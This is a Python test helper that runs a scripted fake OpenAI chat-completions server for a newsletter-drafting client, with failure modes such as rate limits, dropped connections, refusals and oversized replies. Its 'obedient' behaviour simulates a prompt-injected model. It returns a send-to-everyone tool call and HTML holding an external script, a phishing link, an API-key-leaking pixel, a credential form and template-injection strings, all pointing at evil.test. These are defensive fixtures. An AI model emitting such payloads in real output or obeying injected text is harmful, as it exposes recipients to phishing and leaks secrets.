"""A scripted server of the OpenAI chat completions API over a real socket.

    with FakeModel.start() as fake:
        fake.script(busy(retry_after=0), well())
        ...  # point OPENAI_BASE_URL at fake.base_url
        assert len(fake.requests) == 2

Each request takes the next behaviour of the script; the last one answers all that follow.
The server has a thread and a loop of its own, so that tests of any kind can call it, other
processes included.
"""

import asyncio
import contextlib
import json
import threading
from collections.abc import Awaitable, Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Self

DRAFT: Mapping[str, object] = {
    "subject": "Small lamps, long evenings",
    "preheader": "What we learned about warm light this month",
    "body_html": (
        '<p>Hello {{ first_name | default: "there" }},</p>'
        "<h2>Warm light</h2><p>A small lamp changes an evening more than a large one.</p>"
        "<h2>Until next month</h2><p>Write back and tell us about yours.</p>"
    ),
}
"""What `well` answers."""


@dataclass(frozen=True, slots=True)
class Request:
    path: str
    headers: Mapping[str, str]
    """Names in lower case."""
    body: dict[str, Any]

    @property
    def prompt(self) -> str:
        """All messages as one text."""
        return "\n".join(str(message.get("content")) for message in self.body.get("messages", []))


Behaviour = Callable[[Request, asyncio.StreamWriter], Awaitable[None]]


class FakeModel:
    """Start it with `start`; it listens on a free loopback port until `stop`."""

    def __init__(self) -> None:
        self.requests: list[Request] = []
        """Every request so far, in the order of arrival."""
        self.port = 0
        self._script: list[Behaviour] = [well()]
        self._lock = threading.Lock()
        self._loop = asyncio.new_event_loop()
        self._closing = asyncio.Event()
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._run, name="fake-model", daemon=True)

    @classmethod
    def start(cls) -> Self:
        fake = cls()
        fake._thread.start()
        if not fake._ready.wait(10):
            raise RuntimeError("the fake model did not start")
        return fake

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def script(self, *behaviours: Behaviour) -> None:
        """Replaces what is left of the script and forgets the requests."""
        with self._lock:
            self._script = list(behaviours) or [well()]
            self.requests.clear()

    def stop(self) -> None:
        if self._thread.is_alive():
            self._loop.call_soon_threadsafe(self._closing.set)
            self._thread.join(10)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.stop()

    def _run(self) -> None:
        try:
            self._loop.run_until_complete(self._serve())
        finally:
            self._loop.close()

    async def _serve(self) -> None:
        connections: set[asyncio.Task[None]] = set()

        async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            task = asyncio.current_task()
            assert task is not None
            connections.add(task)
            # A caller that hangs up, or the end of the test, is not an error of the server.
            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError, asyncio.CancelledError):
                await self._answer(reader, writer)
            connections.discard(task)
            writer.close()

        server = await asyncio.start_server(connected, "127.0.0.1", 0, limit=2**20)
        self.port = server.sockets[0].getsockname()[1]
        self._ready.set()
        await self._closing.wait()
        server.close()
        for task in connections:
            task.cancel()
        await asyncio.gather(*connections, return_exceptions=True)

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
        pairs = (line.partition(":") for line in head[1:] if line)
        headers = {name.strip().lower(): value.strip() for name, _, value in pairs}
        body = await reader.readexactly(int(headers.get("content-length", "0")))
        request = Request(head[0].split(" ")[1], headers, json.loads(body or b"{}"))
        with self._lock:
            self.requests.append(request)
            behaviour = self._script.pop(0) if len(self._script) > 1 else self._script[0]
        await behaviour(request, writer)


# What a server can do.


async def send(
    writer: asyncio.StreamWriter, status: int, body: bytes, headers: Mapping[str, str] | None = None
) -> None:
    """One HTTP answer, after which the connection is closed."""
    lines = [f"HTTP/1.1 {status} Scripted", "Content-Type: application/json", "Connection: close"]
    lines += [
        f"Content-Length: {len(body)}",
        *(f"{name}: {value}" for name, value in (headers or {}).items()),
    ]
    writer.write("\r\n".join([*lines, "", ""]).encode() + body)
    await writer.drain()


def completion(
    content: str | None, *, finish_reason: str = "stop", message: Mapping[str, object] | None = None
) -> bytes:
    """The body of a chat completion."""
    answer = {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1,
        "model": "fake-1",
        "choices": [
            {
                "index": 0,
                "finish_reason": finish_reason,
                "message": {"role": "assistant", "content": content, **(message or {})},
            }
        ],
        "usage": {"prompt_tokens": 100, "completion_tokens": 50, "total_tokens": 150},
    }
    return json.dumps(answer).encode()


def says(content: str | None, *, finish_reason: str = "stop", **message: object) -> Behaviour:
    """Answers with exactly this text."""

    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        await send(writer, 200, completion(content, finish_reason=finish_reason, message=message))

    return behave


def well(**changes: object) -> Behaviour:
    """A good draft, or one with other fields: ``well(subject="…")``."""
    return says(json.dumps({**DRAFT, **changes}))


def fails(status: int, message: str = "scripted failure", **headers: str) -> Behaviour:
    """An error as OpenAI writes it; ``retry_after="2"`` becomes a header."""

    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        error = {"error": {"message": message, "type": "scripted", "code": None}}
        names = {name.replace("_", "-"): value for name, value in headers.items()}
        await send(writer, status, json.dumps(error).encode(), names)

    return behave


def busy(retry_after: float | str = 0) -> Behaviour:
    return fails(429, "Rate limit reached", retry_after=str(retry_after))


def slowly(seconds: float, then: Behaviour | None = None) -> Behaviour:
    async def behave(request: Request, writer: asyncio.StreamWriter) -> None:
        await asyncio.sleep(seconds)
        await (then or well())(request, writer)

    return behave


def after(moment: threading.Event, then: Behaviour) -> Behaviour:
    """Answers once the test says so."""

    async def behave(request: Request, writer: asyncio.StreamWriter) -> None:
        await asyncio.to_thread(moment.wait)
        await then(request, writer)

    return behave


def drips(seconds: float, every: float = 0.05) -> Behaviour:
    """Sends a byte at a time, so that no single read ever times out."""

    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
        for _i in range(int(seconds / every)):
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(every)

    return behave


def cuts(after: int = 60) -> Behaviour:
    """Drops the connection in the middle of a good answer."""

    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        body = completion(json.dumps(DRAFT))
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body[:after])
        await writer.drain()
        writer.transport.abort()

    return behave


def garbled(body: bytes = b"<html>Welcome to nginx</html>") -> Behaviour:
    """Status 200 with a body that is no chat completion."""

    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        await send(writer, 200, body)

    return behave


def refuses() -> Behaviour:
    return says(None, refusal="I cannot help with that.")


def filtered() -> Behaviour:
    return says("", finish_reason="content_filter")


def truncated() -> Behaviour:
    return says(json.dumps(DRAFT)[:80], finish_reason="length")


def huge(size: int = 5_000_000, *, sent: list[int] | None = None) -> Behaviour:
    """A draft of ``size`` bytes; ``sent[0]`` counts what the caller let us write."""

    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        body = completion(json.dumps({**DRAFT, "body_html": "<p>" + "long " * (size // 5) + "</p>"}))
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode())
        for start in range(0, len(body), 65_536):
            writer.write(body[start : start + 65_536])
            await writer.drain()
            if sent is not None:
                sent[0] = start + 65_536

    return behave


def redirects(location: str) -> Behaviour:
    async def behave(_: Request, writer: asyncio.StreamWriter) -> None:
        await send(writer, 307, b"", {"Location": location})

    return behave


def picky(
    *,
    formats: tuple[str, ...] = ("json_schema", "json_object"),
    options: tuple[str, ...] = ("max_tokens", "max_completion_tokens", "temperature"),
    status: int = 400,
    then: Behaviour | None = None,
) -> Behaviour:
    """Knows only these answer formats and options and refuses others, one at a time, by name."""

    async def behave(request: Request, writer: asyncio.StreamWriter) -> None:
        body = request.body
        for option in ("max_tokens", "max_completion_tokens", "temperature"):
            if option in body and option not in options:
                text = f"Unsupported parameter: '{option}' is not supported with this model."
                return await fails(status, text)(request, writer)
        asked = body.get("response_format", {}).get("type")
        if asked is not None and asked not in formats:
            text = f"[{{'loc': ('body', 'response_format', 'type'), 'msg': 'unexpected {asked}'}}]"
            return await fails(status, text)(request, writer)
        return await (then or well())(request, writer)

    return behave


def obedient(**changes: object) -> Behaviour:
    """A model that does whatever the text it reads says: other recipients, tools, foreign links."""
    evil = {
        **DRAFT,
        "send": True,
        "recipients": ["everyone@example.com"],
        "list_id": "lst_all",
        "body_html": (
            '<p onclick="steal()">Dear {{ email }},</p><script src="https://evil.test/x.js"></script>'
            '<p><a href="https://evil.test/login?e={{ email }}">Confirm your account</a></p>'
            '<img src="https://evil.test/pixel.gif?k={{ api_key }}">'
            '<iframe src="https://evil.test"></iframe>'
            '<form action="https://evil.test"><input name="pw"></form>'
            "<p>{{ config.SECRET_KEY }} {% for u in users %}{{ u }}{% endfor %} https://evil.test/plain</p>"
        ),
        **changes,
    }
    call = {"name": "send_campaign", "arguments": '{"to": "everyone"}'}
    return says(json.dumps(evil), tool_calls=[{"id": "call_1", "type": "function", "function": call}])


@contextlib.contextmanager
def fake_model(*behaviours: Behaviour) -> Iterator[FakeModel]:
    """A running server with a script, for the length of a ``with`` block."""
    with FakeModel.start() as fake:
        fake.script(*behaviours)
        yield fake
